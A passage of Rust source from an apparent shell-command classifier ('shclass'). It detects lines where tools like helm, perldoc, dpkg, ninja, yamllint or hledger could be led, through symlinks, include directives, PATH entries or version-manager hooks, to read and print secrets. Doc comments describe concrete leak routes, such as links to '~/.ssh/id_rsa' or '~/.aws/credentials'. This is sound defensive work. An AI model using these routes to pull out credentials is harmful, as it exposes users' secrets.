    fn unquote(v: &str) -> &str {
        v.trim().trim_matches(['"', '\''])
    }
    let mut out = Vec::new();
    let mut in_include = false;
    // The indentation of the `extends:` key whose block the lines are in.
    let mut extends: Option<usize> = None;
    for line in text.lines() {
        let trimmed = line.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        let indent = line.len() - line.trim_start().len();
        if extends.is_some_and(|e| indent <= e) {
            extends = None;
        }
        if indent == 0 && !trimmed.starts_with('-') {
            in_include = false;
            if let Some(rest) = trimmed.strip_prefix("include:") {
                in_include = true;
                let rest = rest.trim();
                match rest.strip_prefix('[') {
                    Some(list) => out.extend(
                        list.trim_end_matches(']')
                            .split(',')
                            .map(unquote)
                            .filter(|v| !v.is_empty()),
                    ),
                    // A scalar or a flow mapping: looked at whole as a reference.
                    None if !rest.is_empty() => out.push(unquote(rest)),
                    None => {}
                }
            }
            continue;
        }
        let entry = trimmed.strip_prefix('-').map_or(trimmed, str::trim_start);
        if in_include {
            if let Some(v) = entry.strip_prefix("path:") {
                out.push(unquote(v));
            } else if trimmed.starts_with('-') && !entry.contains(": ") && !entry.ends_with(':') {
                out.push(unquote(entry));
            }
            continue;
        }
        if let Some(rest) = entry.strip_prefix("extends:") {
            let rest = rest.trim();
            if let Some(map) = rest.strip_prefix('{') {
                out.extend(map.split(',').filter_map(|kv| {
                    kv.trim()
                        .strip_prefix("file:")
                        .map(|v| unquote(v.trim_end_matches('}')))
                }));
            } else if rest.is_empty() {
                extends = Some(indent);
            }
            continue;
        }
        if extends.is_some()
            && let Some(v) = entry.strip_prefix("file:")
        {
            out.push(unquote(v));
        }
    }
    out.retain(|v| !v.is_empty());
    out
}

/// Is a Compose reference something its remote loaders fetch (a git repository, an OCI
/// artifact), or an address made at run time from the environment?
fn compose_remote_reference(r: &str) -> bool {
    r.contains("://")
        || r.starts_with("git@")
        || r.contains('$')
        || r.contains(".git#")
        || Path::new(r)
            .extension()
            .is_some_and(|e| e.eq_ignore_ascii_case("git"))
        || r.starts_with("github.com/")
}

/// The files pylint reads its configuration from, in a directory it looks in.
const PYLINT_CONFIGS: [&str; 7] = [
    "pylintrc",
    ".pylintrc",
    "pylintrc.toml",
    ".pylintrc.toml",
    "pyproject.toml",
    "setup.cfg",
    "tox.ini",
];

/// Whether `f` is a file the line writes (its content unknown), or one of the checkout whose
/// text `says` accepts; a file that is there but cannot be read as text counts as saying it.
fn file_says(w: &LineWrites, f: &Path, says: &dyn Fn(&str) -> bool) -> bool {
    w.has(f) || w.cx.look.is_file(f) && w.cx.look.read_to_string(f).map_or(true, |t| says(&t))
}

/// The version files of asdf and mise, mise's configuration files, and the tools' own
/// version files (idiomatic or legacy files, which mise and asdf read when told to: their
/// whole text is a version, `path:./n` included), in a directory.
const VERSION_FILES: [&str; 15] = [
    ".tool-versions",
    "mise.toml",
    ".mise.toml",
    "mise.local.toml",
    ".mise.local.toml",
    ".config/mise.toml",
    ".config/mise/config.toml",
    ".nvmrc",
    ".node-version",
    ".python-version",
    ".ruby-version",
    ".java-version",
    ".go-version",
    ".terraform-version",
    ".bun-version",
];

/// A version file in `dir` or a parent inside the workspace that makes a version manager's
/// shim run a program of the checkout: a `path:` version (`python path:./py` in
/// `.tool-versions`, `node = "path:./n"` in `mise.toml`) runs the program found there, and
/// mise's `[env]` directives and `[hooks]` (`_.path`, `_.source`, a template's `exec(…)`) put
/// directories of the checkout first on `PATH` or run scripts when a shim starts. A shim has
/// the name of the program it stands for, so any program can be one.
fn version_selected_by_path(
    u: &Unit,
    dir: &Path,
    root: &Path,
    w: &LineWrites,
    memo: Option<&super::WorkspaceMemo>,
) -> Option<PathBuf> {
    // One the line writes before the unit starts.
    let written = w.paths().iter().map(|(_, p)| p).find(|p| {
        // The path below `d`, as text: a version file, or a directory holding one.
        project_dirs(dir, root).any(|d| {
            p.strip_prefix(d)
                .ok()
                .and_then(Path::to_str)
                .is_some_and(|rest| {
                    rest.is_empty()
                        || VERSION_FILES.iter().any(|f| {
                            f.strip_prefix(rest)
                                .is_some_and(|t| t.is_empty() || t.starts_with('/'))
                        })
                })
        }) && w.has_before(p, u)
    });
    if let Some(p) = written {
        return Some(p.clone());
    }
    let on_disk = |d: &Path| {
        // One buffer for the fifteen names of each directory: a join apiece had cost a hook
        // more than the look-ups themselves.
        let mut f = PathBuf::new();
        for d in project_dirs(d, root) {
            for name in VERSION_FILES {
                f.clear();
                f.reserve(d.as_os_str().len() + 32);
                f.push(d);
                f.push(name);
                let file_name = name.rsplit('/').next().unwrap_or(name);
                let tool_versions = file_name == ".tool-versions";
                let idiomatic = file_name.ends_with("-version") || file_name == ".nvmrc";
                let selects = w.cx.look.is_file(&f)
                    && w.cx.look.read_to_string(&f).map_or(true, |t| {
                        if tool_versions {
                            tool_versions_by_path(&t)
                        } else if idiomatic {
                            t.lines().any(|l| l.trim_start().starts_with("path:"))
                        } else {
                            ["path:", "_.path", "_.source", "exec(", "hooks"]
                                .iter()
                                .any(|k| t.contains(k))
                        }
                    });
                if selects {
                    return Some(f);
                }
            }
        }
        None
    };
    // Looked at once per directory: for a batch in its memo, else for the line.
    if let Some(m) = memo {
        return m.version_file_in(dir, on_disk);
    }
    if let Some((_, f)) = w.version_files.borrow().iter().find(|(d, _)| d == dir) {
        return f.clone();
    }
    let f = on_disk(dir);
    w.version_files
        .borrow_mut()
        .push((dir.to_path_buf(), f.clone()));
    f
}

/// Whether a `.tool-versions` text gives a tool a `path:` version (after its name, before a
/// comment).
fn tool_versions_by_path(text: &str) -> bool {
    text.lines().any(|l| {
        let l = l.split('#').next().unwrap_or("");
        l.split_whitespace().skip(1).any(|v| v.starts_with("path:"))
    })
}

/// The directories bash searches for a program, in order: `PATH` as shclass's own environment
/// has it (the agent's shell inherits it), read once. An empty entry means the working
/// directory, as for bash.
fn search_path() -> &'static [PathBuf] {
    static DIRS: std::sync::OnceLock<Vec<PathBuf>> = std::sync::OnceLock::new();
    DIRS.get_or_init(|| {
        std::env::var_os("PATH")
            .map(|p| std::env::split_paths(&p).collect())
            .unwrap_or_default()
    })
}

/// Does a path the environment gives (a `PATH` entry, a loader variable's) lead into the
/// checkout `root`: relative (to where the program runs), or below `root` as written or as
/// its real path?
fn names_checkout(p: &Path, root: &Path) -> bool {
    p.is_relative() || under(p, root) || under_real_root(p, root)
}

/// Is `d` the directory `r` or below it? Compared as bytes: `Path::starts_with` walks
/// components, and it is asked for every `PATH` entry of every unit.
fn under(d: &Path, r: &Path) -> bool {
    let (d, r) = (
        d.as_os_str().as_encoded_bytes(),
        r.as_os_str().as_encoded_bytes(),
    );
    let r = r.strip_suffix(b"/").unwrap_or(r);
    d.strip_prefix(r)
        .is_some_and(|rest| rest.is_empty() || rest.first() == Some(&b'/'))
}

/// Is the absolute path `p` below the workspace's real path (links resolved)? The real path is
/// worked out once per thread for the last root asked about: a batch decides every line against
/// one root. A root that is its own real path is not compared again.
fn under_real_root(p: &Path, root: &Path) -> bool {
    thread_local! {
        static LAST: std::cell::RefCell<Option<(PathBuf, Option<PathBuf>)>> =
            const { std::cell::RefCell::new(None) };
    }
    LAST.with_borrow_mut(|last| {
        // Compared as bytes: `Path`'s equality walks components.
        if last
            .as_ref()
            .is_none_or(|(r, _)| r.as_os_str() != root.as_os_str())
        {
            let real = std::fs::canonicalize(root)
                .ok()
                .filter(|r| r.as_os_str() != root.as_os_str());
            *last = Some((root.to_path_buf(), real));
        }
        last.as_ref()
            .and_then(|(_, real)| real.as_deref())
            .is_some_and(|r| under(p, r))
    })
}

/// Does an entry of `search` name the checkout `root`? For the process's own search path
/// ([`search_path`]) worked out once per thread for the last root asked about: it is asked for
/// every unit, and a batch decides every line against one root.
fn path_names_checkout(search: &[PathBuf], root: &Path) -> bool {
    thread_local! {
        static LAST: std::cell::RefCell<Option<(PathBuf, bool)>> =
            const { std::cell::RefCell::new(None) };
    }
    if !std::ptr::eq(search, search_path()) {
        return search.iter().any(|d| names_checkout(d, root));
    }
    LAST.with_borrow_mut(|last| match last {
        Some((r, answer)) if r.as_os_str() == root.as_os_str() => *answer,
        _ => {
            let answer = search.iter().any(|d| names_checkout(d, root));
            *last = Some((root.to_path_buf(), answer));
            answer
        }
    })
}

/// What [`found_in_checkout`] found.
#[derive(Debug, PartialEq, Eq)]
enum Found {
    /// The file bash runs, in the checkout.
    File(PathBuf),
    /// A relative `PATH` entry, in a directory the line moves to at run time.
    Moved(PathBuf),
}

/// Where bash finds `name` on `search` when that is a file of the checkout (`root`): a `PATH`
/// entry inside the checkout, or a relative one (joined to `dir`, where the unit runs), ahead of
/// every directory outside that holds an executable `name`. A file the line writes there before
/// the unit starts counts as found. Most `PATH`s have no such entry: nothing is looked at then.
fn found_in_checkout(
    name: &str,
    u: &Unit,
    dir: &Path,
    root: &Path,
    w: &LineWrites,
    search: &[PathBuf],
) -> Option<Found> {
    let inside = |d: &Path| names_checkout(d, root);
    // Most `PATH`s have no entry in the checkout: nothing more is looked at then.
    if !path_names_checkout(search, root) {
        return None;
    }
    // A relative entry is looked up where the unit runs, which a `cd` to a directory known only
    // at run time moves (`cd "$d"`, `cd -`, a `CDPATH` target, `popd`): with one on the line, a
    // name may be found anywhere.
    let moves = search.iter().any(|d| d.is_relative())
        && w.cx
            .analysis
            .units
            .iter()
            .position(|x| std::ptr::eq(x, u))
            .is_none_or(|k| w.cx.dirs().of(k).unknown());
    for d in search {
        let checkout = inside(d);
        if moves && d.is_relative() {
            return Some(Found::Moved(d.clone()));
        }
        // An empty entry is the directory the unit runs in.
        let f = dir.join(d).join(name);
        if checkout && (w.has_before(&f, u) || w.cx.look.exists(&f)) {
            // Found, whatever it is: bash takes the first executable file, and the checkout
            // decides what that file holds and whether it is executable.
            return Some(Found::File(f));
        }
        if !checkout && is_executable_file(&f) {
            return None;
        }
    }
    None
}

/// The first program `program` starts by name ([`crate::programs::path_helpers`]) that bash's
/// `search` finds in the checkout, as [`found_in_checkout`] finds the unit's own: `tar -tzf`
/// runs the `bin/gzip` of a checkout whose `bin` is first on `PATH`. A program named with a
/// directory part (`/usr/bin/tar`) still looks its helpers up. Nothing is looked at unless an
/// entry of `search` names the checkout.
fn helper_in_checkout(
    program: &str,
    u: &Unit,
    dir: &Path,
    root: &Path,
    w: &LineWrites,
    search: &[PathBuf],
) -> Option<(&'static str, Found)> {
    let helpers = crate::programs::path_helpers(program);
    if helpers.is_empty() || !path_names_checkout(search, root) {
        return None;
    }
    helpers
        .iter()
        .flat_map(|group| group.iter())
        .find_map(|&h| Some((h, found_in_checkout(h, u, dir, root, w, search)?)))
}

/// The first of the catalogue's [`PATH_LOADERS`](crate::programs::environment::PATH_LOADERS) that reaches `program` and names a path of the checkout
/// (`root`; a relative path is taken from `dir`, where the unit runs), read from shclass's own
/// environment, once.
fn environment_into_checkout(
    program: &str,
    dir: &Path,
    root: &Path,
) -> Option<(&'static str, PathBuf)> {
    // Each variable read once (its paths, as they are written), and only once a program it
    // reaches is seen: a look-up scans the whole environment.
    use crate::programs::environment::{PATH_LOADERS, Shape};
    static VALUES: [std::sync::OnceLock<Vec<String>>; PATH_LOADERS.len()] =
        [const { std::sync::OnceLock::new() }; PATH_LOADERS.len()];
    for (&(name, shape, reaches), cell) in PATH_LOADERS.iter().zip(&VALUES) {
        if reaches.is_some_and(|r| !r(program)) {
            continue;
        }
        let entries = cell.get_or_init(|| {
            let Some(value) = std::env::var_os(name).filter(|v| !v.is_empty()) else {
                return Vec::new();
            };
            // A value that is not UTF-8 is not compared with the checkout's path: it counts
            // as naming it (a relative entry), never as leading elsewhere.
            let Some(value) = value.to_str() else {
                return vec![".".to_owned()];
            };
            match shape {
                Shape::One => vec![value.to_owned()],
                Shape::List => value
                    .split(':')
                    .map(|e| if e.is_empty() { "." } else { e }.to_owned())
                    .collect(),
                Shape::Libraries => value
                    .split([':', ' '])
                    .filter(|e| e.contains('/'))
                    .map(str::to_owned)
                    .collect(),
            }
        });
        for entry in entries {
            let p = Path::new(entry);
            if names_checkout(p, root) {
                return Some((name, dir.join(p)));
            }
        }
    }
    None
}

/// A regular file (links followed) with an execute bit: what bash's `PATH` search stops at.
#[cfg(unix)]
fn is_executable_file(f: &Path) -> bool {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(f).is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
}

/// A regular file (links followed): what the `PATH` search stops at where there are no
/// execute bits.
#[cfg(not(unix))]
fn is_executable_file(f: &Path) -> bool {
    f.is_file()
}

/// Helm loads a chart directory with a walk that follows symbolic links, and every file it
/// finds becomes the chart's (`.Files.Get`, a values file, a template): a chart of the checkout
/// holding a link to a secret (`files/ca.pem` → `~/.ssh/id_rsa`), or to a directory the walk
/// goes on through that holds secrets (`files/h` → `~`, `up` → `../..`), has `helm template`
/// or `helm lint` print it. The directories among the static operands (and the working directory for
/// `helm lint` without one) are walked, at most [`CHART_WALK_LIMIT`] entries, unreadable or
/// larger trees counting as holding such a link.
fn helm_chart_link(u: &Unit, dir: &Path, look: crate::files::Look<'_>) -> Option<String> {
    let words: Vec<&str> = operand_words(u, "helm")
        .into_iter()
        .filter(|t| !t.starts_with('-'))
        .collect();
    let mut charts: Vec<PathBuf> = words
        .iter()
        .map(|t| crate::files::resolve_links_under(t, dir, look).0)
        .filter(|p| look.is_dir(p))
        .collect();
    if words == ["lint"] {
        charts.push(dir.to_path_buf());
    }
    charts.iter().find_map(|c| {
        let mut budget = CHART_WALK_LIMIT;
        let link = secret_link_under(c, &mut budget, true);
        match link {
            Some(l) => Some(format!(
                "`{}` in the chart `{}` is a link to a secret or to a directory holding secrets: helm follows it and makes the files part of the chart, which a template prints",
                l.display(),
                c.display()
            )),
            None if budget == 0 => Some(format!(
                "the chart `{}` holds more files than shclass looks at: helm follows the links among them, and a link to a secret becomes part of the chart",
                c.display()
            )),
            None => None,
        }
    })
}

/// The directories a program reads its data from, by names of its own, when the line moves them
/// (an option's value, with the part below it the program reads), and the data it prints from
/// there: dpkg and dpkg-query print `ADMINDIR/info/PKG.list` (`-L`, `-S`) and the control files
/// (`--control-show`) of the database `--admindir` (or `--root`'s `var/lib/dpkg`) names; info
/// prints a file of a `-d` directory as a node; sdcv prints the entries a `.idx` of its
/// `--data-dir` points into the `.dict` beside it; pw-config prints the configuration it finds
/// under `--prefix`; lsblk, lscpu and lsmem print attribute files of a `--sysroot`; systemctl
/// (`cat`) and systemd-analyze (`cat-config`) print the unit and configuration files under a
/// `--root`; postconf reads `main.cf` and `master.cf` of a `-c` directory and prints their
/// settings (`NAME = VALUE` lines of any file, `aws_secret_access_key = …` included, are
/// parameters to it, and a line it cannot parse is quoted in its warning); fortune prints the
/// epigrams of every collection in a directory operand.
fn data_dirs(base: &str, u: &Unit) -> (Vec<(String, &'static str)>, bool) {
    use crate::programs::{args, tables};
    let spec = tables::builtin(base);
    let parsed = args::parse(spec.as_ref(), &u.argv);
    let moved: &[(&str, &'static str)] = match base {
        "dpkg" | "dpkg-query" => &[("--admindir", ""), ("--root", "var/lib/dpkg")],
        "info" => &[("-d", ""), ("--directory", "")],
        "sdcv" => &[("-2", ""), ("--data-dir", "")],
        "pw-config" => &[("-p", ""), ("--prefix", "")],
        "lsblk" => &[("--sysroot", "")],
        "lscpu" | "lsmem" => &[("-s", ""), ("--sysroot", "")],
        "systemctl" | "systemd-analyze" => &[("--root", "")],
        "postconf" => &[("-c", "")],
        _ => &[],
    };
    let mut dynamic = false;
    let mut dirs: Vec<(String, &'static str)> = Vec::new();
    for o in &parsed.opts {
        let Some((_, below)) = moved.iter().find(|(name, _)| o.name == *name) else {
            continue;
        };
        match &o.value {
            Some(v) => dirs.push((v.clone(), below)),
            None => dynamic |= o.value_at.is_some(),
        }
    }
    if base == "fortune" {
        dirs.extend(
            parsed
                .operands
                .iter()
                .filter_map(|&k| u.argv.get(k)?.value.clone())
                .map(|t| (t.to_string(), "")),
        );
    }
    (dirs, dynamic)
}

/// perldoc looks for a module in `.`, `lib` and `blib` of a Perl distribution (a directory with
/// `Makefile.PL` or `Build.PL`) before `@INC`, as `NAME.pod`, `NAME.pm`, `NAME` (`::` read as
/// `/`, the case ignored) or under `pod/` and `pods/`; `-m` prints the file found as it is. A
/// link to a secret among those files is printed as the module's source.
fn perldoc_link(u: &Unit, dir: &Path, w: &LineWrites) -> Option<String> {
    use crate::programs::{args, tables};
    let dist = ["Makefile.PL", "Build.PL"]
        .map(|f| dir.join(f))
        .into_iter()
        .any(|f| w.has(&f) || w.cx.look.is_file(&f));
    if !dist {
        return None;
    }
    let spec = tables::builtin("perldoc");
    let parsed = args::parse(spec.as_ref(), &u.argv);
    let names: Vec<String> = parsed
        .operands
        .iter()
        .filter_map(|&k| {
            u.argv
                .get(k)?
                .value
                .as_deref()
                .map(|t| t.replace("::", "/"))
        })
        .collect();
    let leads_to_secret = |d: &Path| {
        std::fs::read_dir(d).ok()?.flatten().find_map(|e| {
            if !e.file_type().map_or(true, |t| t.is_symlink()) {
                return None;
            }
            let link = e.path();
            // A link whose target is missing here is judged by the path it names.
            let target = std::fs::canonicalize(&link)
                .or_else(|_| std::fs::read_link(&link).map(|t| d.join(t)))
                .ok()?;
            (crate::files::is_secret(&target) || crate::files::is_secret_dir(&target))
                .then_some(link)
        })
    };
    for base in ["", "lib", "blib"].map(|b| dir.join(b)) {
        for sub in ["", "pod", "pods"] {
            for name in &names {
                let file = base.join(sub).join(name);
                let Some(parent) = file.parent() else {
                    continue;
                };
                if w.has(parent) && parent != dir {
                    return Some(format!(
                        "`{}` is written by the line: perldoc looks for the module there and prints it",
                        parent.display()
                    ));
                }
                if let Some(link) = leads_to_secret(parent) {
                    return Some(format!(
                        "`{}` is a link to a secret where perldoc looks for a module of this Perl distribution: `perldoc -m` prints it",
                        link.display()
                    ));
                }
            }
        }
    }
    None
}

/// The places a program's own data lives by default, which the checkout cannot hold: the
/// system's root (`dpkg --root=/`) and `/usr`.
fn system_data_dir(path: &Path) -> bool {
    path == Path::new("/") || path.starts_with("/usr") || path == Path::new("/var/lib/dpkg")
}

/// A program that reads the files of a directory the line names by names of its own and
/// prints them ([`data_dirs`]): a link to a secret anywhere below that directory (a checkout can
/// commit one: `db/info/vim.list` → `~/.aws/credentials`) is printed as the program's data. A
/// directory named at run time is not looked into, so it counts as holding one.
fn data_tree_link(base: &str, u: &Unit, dir: &Path, w: &LineWrites) -> Option<String> {
    let (dirs, dynamic) = data_dirs(base, u);
    if dynamic {
        return Some(format!(
            "`{base}` reads and prints the files of a directory named at run time: a link there to a secret would be printed as its data"
        ));
    }
    dirs.iter().find_map(|(text, below)| {
        let (named, _) = crate::files::resolve_links_under(text, dir, w.cx.look);
        let top = if below.is_empty() {
            named
        } else {
            named.join(below)
        };
        if w.has(&top) {
            return Some(format!(
                "`{}` is written by the line: `{base}` reads the files there by names of its own and prints them",
                top.display()
            ));
        }
        if system_data_dir(&top) || !w.cx.look.is_dir(&top) {
            return None;
        }
        let mut budget = CHART_WALK_LIMIT;
        match secret_link_under(&top, &mut budget, false) {
            Some(l) => Some(format!(
                "`{}` under `{}` is a link to a secret: `{base}` reads the files there by names of its own and prints them as its data",
                l.display(),
                top.display()
            )),
            None if budget == 0 => Some(format!(
                "`{}` holds more files than shclass looks at: `{base}` reads the files there by names of its own and prints them, a link to a secret among them",
                top.display()
            )),
            None => None,
        }
    })
}

/// ffprobe and gst-discoverer-1.0 open a local file by its content, not its name: an HLS
/// playlist (`#EXTM3U`), a DASH manifest (`<MPD`), an SDP description (`v=0`) or an ffconcat
/// list among the checkout's files names its segments by URL, and the demuxer (the one of
/// ffprobe, or `hlsdemux`/`dashdemux` found by type-finding) fetches them (`http://…`: HLS
/// allows http(s) segments from a local playlist) or opens the sockets they name. The static
/// operands (and ffprobe's `-i` values) are read, the first KiB of each; one the line writes
/// counts as such a file.
fn media_playlist(name: &str, u: &Unit, dir: &Path, w: &LineWrites) -> Option<String> {
    let spec = crate::programs::tables::builtin(name);
    let parsed = crate::programs::args::parse(spec.as_ref(), &u.argv);
    let operands = parsed.operands.iter().filter_map(|&k| {
        u.argv
            .get(k)
            .and_then(|a| a.value.as_deref())
            .map(str::to_owned)
    });
    let named = parsed
        .opts
        .iter()
        .filter(|o| name == "ffprobe" && o.name == "-i")
        .filter_map(|o| o.value.clone());
    for f in operands
        .chain(named)
        .map(|t| crate::files::resolve_links_under(&t, dir, w.cx.look).0)
    {
        if w.has(&f) || w.cx.look.is_file(&f) && media_list_head(&f, name == "mediainfo") {
            return Some(format!(
                "`{}` is a playlist or stream description (HLS, DASH, SDP, ffconcat): {name} would fetch the URLs it names or open the sockets it describes",
                f.display()
            ));
        }
    }
    None
}

/// Node CLIs that import a JavaScript configuration of the project before they parse their
/// options: the names each goes by, the files (or a local copy of the CLI itself, which it
/// hands over to), and whether parents of the directory are looked in too. sequelize-cli
/// `require`s `./.sequelizerc` when its options module loads; AVA loads `ava.config.*` beside
/// the nearest `package.json` before `--version` is acted on, and a global AVA runs the
/// project's own `node_modules/ava` instead (`import-local`); Prisma loads `prisma.config.ts`
/// of the directory before any command.
const JS_CONFIG_FIRST: &[(&[&str], &[&str], bool)] = &[
    (&["sequelize", "sequelize-cli"], &[".sequelizerc"], false),
    (
        &["ava"],
        &[
            "ava.config.js",
            "ava.config.cjs",
            "ava.config.mjs",
            "node_modules/ava",
        ],
        true,
    ),
    (
        &["prisma"],
        &[
            "prisma.config.ts",
            "prisma.config.js",
            "prisma.config.mjs",
            "prisma.config.cjs",
            "prisma.config.mts",
            "prisma.config.cts",
            ".config/prisma.ts",
            ".config/prisma.js",
        ],
        false,
    ),
];

/// yamllint reads the configuration a configuration `extends` by path, and the file its
/// `ignore-from-file` names: a secret named there is parsed as YAML (or as ignore patterns),
/// and the error quotes its lines. The configuration is the text of `-d`/`--config-data`, the
/// file of `-c`/`--config-file`, or else the project's `.yamllint` (in the directory or a
/// parent); one given at run time, or a file the line writes, may name anything.
fn yamllint_extends_secret(u: &Unit, dir: &Path, root: &Path, w: &LineWrites) -> Option<String> {
    let spec = crate::programs::tables::builtin("yamllint").unwrap_or_default();
    let parsed = crate::programs::args::parse(Some(&spec), &u.argv);
    let mut given = false;
    for o in &parsed.opts {
        let data = matches!(&*o.name, "-d" | "--config-data");
        if !data && !matches!(&*o.name, "-c" | "--config-file") {
            continue;
        }
        given = true;
        let Some(v) = o.value.as_deref() else {
            return Some(
                "yamllint's configuration is given at run time: it may `extends` a secret, which the error would quote".to_owned(),
            );
        };
        if data {
            if let Some(named) = yaml_config_names_secret(v, dir) {
                return Some(format!(
                    "the configuration given with `{}` names `{named}`, a secret: yamllint would read it and quote it in the error",
                    o.name
                ));
            }
            continue;
        }
        let f = resolve(v, dir);
        if w.has(&f) {
            return Some(format!(
                "`{}` is written by the line: a yamllint configuration may `extends` a secret, which the error would quote",
                f.display()
            ));
        }
        let Some(text) = head_of(w, &f, 256 * 1024) else {
            continue;
        };
        if let Some(named) = yaml_config_names_secret(&text, f.parent().unwrap_or(dir)) {
            return Some(format!(
                "`{}` names `{named}`, a secret: yamllint would read it and quote it in the error",
                f.display()
            ));
        }
    }
    if given {
        return None;
    }
    project_dirs(dir, root)
        .flat_map(|d| [".yamllint", ".yamllint.yaml", ".yamllint.yml"].map(|f| d.join(f)))
        .find_map(|config| {
            let text = w.cx.look.read_to_string(&config).ok()?;
            let named = yaml_config_names_secret(&text, config.parent().unwrap_or(dir))?;
            Some(format!(
                "`{}` extends `{named}`, a secret: yamllint would read it as its configuration and quote it in the error",
                config.display()
            ))
        })
}

/// The first value of a yamllint configuration's `extends` or `ignore-from-file` (block or flow
/// style, one value or a list) that names a secret, relative to `base`.
fn yaml_config_names_secret(text: &str, base: &Path) -> Option<String> {
    ["extends:", "ignore-from-file:"].iter().find_map(|key| {
        text.match_indices(key).find_map(|(at, _)| {
            let rest = text.get(at + key.len()..)?.trim_start_matches([' ', '\t']);
            let values: Vec<&str> = match rest.strip_prefix('[') {
                Some(list) => list.split(']').next()?.split(',').collect(),
                None => vec![rest.split(['\n', ',', '}']).next()?],
            };
            values.into_iter().find_map(|v| {
                let v = v.trim().trim_matches(['"', '\'']);
                include_may_be_secret(v, base).then(|| v.to_owned())
            })
        })
    })
}

/// gixy follows the `include` directives of the nginx configuration it is given (relative to
/// that file): a secret included is parsed as nginx configuration, and the error quotes it.
fn gixy_includes_secret(u: &Unit, dir: &Path, w: &LineWrites) -> Option<String> {
    static_operands(u, dir).find_map(|config| {
        let text = head_of(w, &config, 256 * 1024)?;
        let base = config.parent().unwrap_or(dir).to_path_buf();
        // Directives end at `;` and blocks at braces, wherever the lines break.
        let named = text.split([';', '{', '}', '\n']).find_map(|statement| {
            let value = statement.trim().strip_prefix("include")?;
            let value = value.trim().trim_matches(['"', '\'']);
            names_secret(value, &base).then(|| value.to_owned())
        })?;
        Some(format!(
            "`{}` includes `{named}`, a secret: gixy would parse it as nginx configuration and quote it in the error",
            config.display()
        ))
    })
}

/// yara compiles the `include "FILE"` directives of the rule files it is given (relative to
/// the including file): a secret included is compiled as rules, and the syntax error quotes its
/// first token (a key's first line, a token).
fn yara_includes_secret(u: &Unit, dir: &Path, w: &LineWrites) -> Option<String> {
    static_operands(u, dir).find_map(|rules| {
        let text = head_of(w, &rules, 256 * 1024)?;
        let base = rules.parent().unwrap_or(dir).to_path_buf();
        let named = text.lines().find_map(|line| {
            let value = line.trim().strip_prefix("include")?.trim();
            let value = value.strip_prefix('"')?.split('"').next()?;
            include_may_be_secret(value, &base).then(|| value.to_owned())
        })?;
        Some(format!(
            "`{}` includes `{named}`, a secret: yara would compile it as rules and quote it in the error",
            rules.display()
        ))
    })
}

/// Ninja reads `build.ninja` (or `-f FILE`) in the directory it runs in (after `-C DIR`) and
/// the files its `include` and `subninja` lines name, relative to that directory, before any
/// tool runs: a secret included is parsed as a build file, where a `.env` line is a variable
/// binding that `ninja -t commands` and `-t compdb` print wherever a rule's command names it,
/// and any other line is quoted in the parse error. A path built from variables (`include
/// $dir/x`, a `$` line continuation), a build file named at run time, or one the line writes,
/// may name any file. The build files it includes are followed in turn.
fn ninja_includes_secret(u: &Unit, dir: &Path, w: &LineWrites) -> Option<String> {
    let spec = crate::programs::tables::builtin("ninja").unwrap_or_default();
    let parsed = crate::programs::args::parse(Some(&spec), &u.argv);
    // Ninja changes to the last `-C` directory before it reads the build file.
    let mut wd = dir.to_path_buf();
    let mut file = "build.ninja";
    for o in &parsed.opts {
        let value = match &*o.name {
            "-C" | "-f" => o.value.as_deref(),
            _ => continue,
        };
        let Some(v) = value else {
            return Some(format!(
                "ninja's `{}` is known only at run time: the build file it reads may include any file, a secret among them",
                o.name
            ));
        };
        if o.name == "-C" {
            wd = resolve(v, &wd);
        } else {
            file = v;
        }
    }
    if names_secret(file, &wd) {
        return Some(format!(
            "ninja's build file `{file}` is a secret, or a link to one: the parse error quotes its lines"
        ));
    }
    let mut queue = vec![resolve(file, &wd)];
    let mut read = 0;
    while let Some(f) = queue.pop() {
        if w.has(&f) {
            return Some(format!(
                "`{}` is written by the line: ninja would follow any `include` it holds, and print or quote a secret included",
                f.display()
            ));
        }
        read += 1;
        if read > 64 {
            return Some(
                "ninja's build files include more files than are looked at: one may include a secret".to_owned(),
            );
        }
        let Some(text) = head_of(w, &f, 4 << 20) else {
            continue;
        };
        for line in text.lines() {
            let Some(rest) = ["include", "subninja"].iter().find_map(|k| {
                line.trim_start()
                    .strip_prefix(k)
                    .filter(|r| r.starts_with([' ', '\t']))
            }) else {
                continue;
            };
            let value = rest.trim();
            if value.contains('$') {
                return Some(format!(
                    "`{}` includes `{value}`, a path built from variables: ninja may read any file there, a secret among them",
                    f.display()
                ));
            }
            let named = std::iter::once(value)
                .chain(value.split_whitespace())
                .find(|v| include_may_be_secret(v, &wd));
            if let Some(named) = named {
                return Some(format!(
                    "`{}` includes `{named}`, a secret: ninja would read it as a build file, print its variables in the commands (`-t commands`) and quote its lines in the parse error",
                    f.display()
                ));
            }
            queue.push(resolve(value, &wd));
        }
    }
    None
}

/// Whether a path an `include` of the checkout names (relative to `base`, `~` expanded, a
/// glob allowed) is a secret, or a glob that may expand to one (`~/.n*rc`, `/root/.ss?/*`).
fn include_may_be_secret(value: &str, base: &Path) -> bool {
    names_secret(value, base)
        || value.contains(['*', '?', '['])
            && (crate::files::secret_glob::glob_may_be_secret(value)
                || crate::files::secret_glob::glob_may_match_secret(value, base))
}

/// hledger follows the `include` directives of the journals it reads (`-f FILE`, `--file`;
/// the rules file `FILE.rules` of a CSV file too), relative to the including file, with `~`
/// expanded, globs, and a format prefix (`include timedot:x`), and the included files' own: a
/// secret included is parsed as a journal, and the parse error quotes its offending line (a
/// `.netrc`'s `machine … password …`, a `.env` line). A journal named at run time, or one the
/// line writes, may hold any `include`.
fn hledger_includes_secret(u: &Unit, dir: &Path, w: &LineWrites) -> Option<String> {
    let spec = crate::programs::tables::builtin("hledger").unwrap_or_default();
    let parsed = crate::programs::args::parse(Some(&spec), &u.argv);
    let mut queue: Vec<PathBuf> = Vec::new();
    for o in parsed
        .opts
        .iter()
        .filter(|o| matches!(&*o.name, "-f" | "--file"))
    {
        let Some(v) = o.value.as_deref() else {
            return Some(
                "hledger reads a journal named at run time: its `include` directives may name a secret, which the parse error would quote".to_owned(),
            );
        };
        if v == "-" {
            continue;
        }
        let f = resolve(without_format_prefix(v), dir);
        let mut rules = f.clone().into_os_string();
        rules.push(".rules");
        queue.push(PathBuf::from(rules));
        queue.push(f);
    }
    let mut read = 0;
    while let Some(f) = queue.pop() {
        if w.has(&f) {
            return Some(format!(
                "`{}` is written by the line: hledger would follow any `include` it holds, and quote a secret included in the parse error",
                f.display()
            ));
        }
        read += 1;
        if read > 64 {
            return Some(
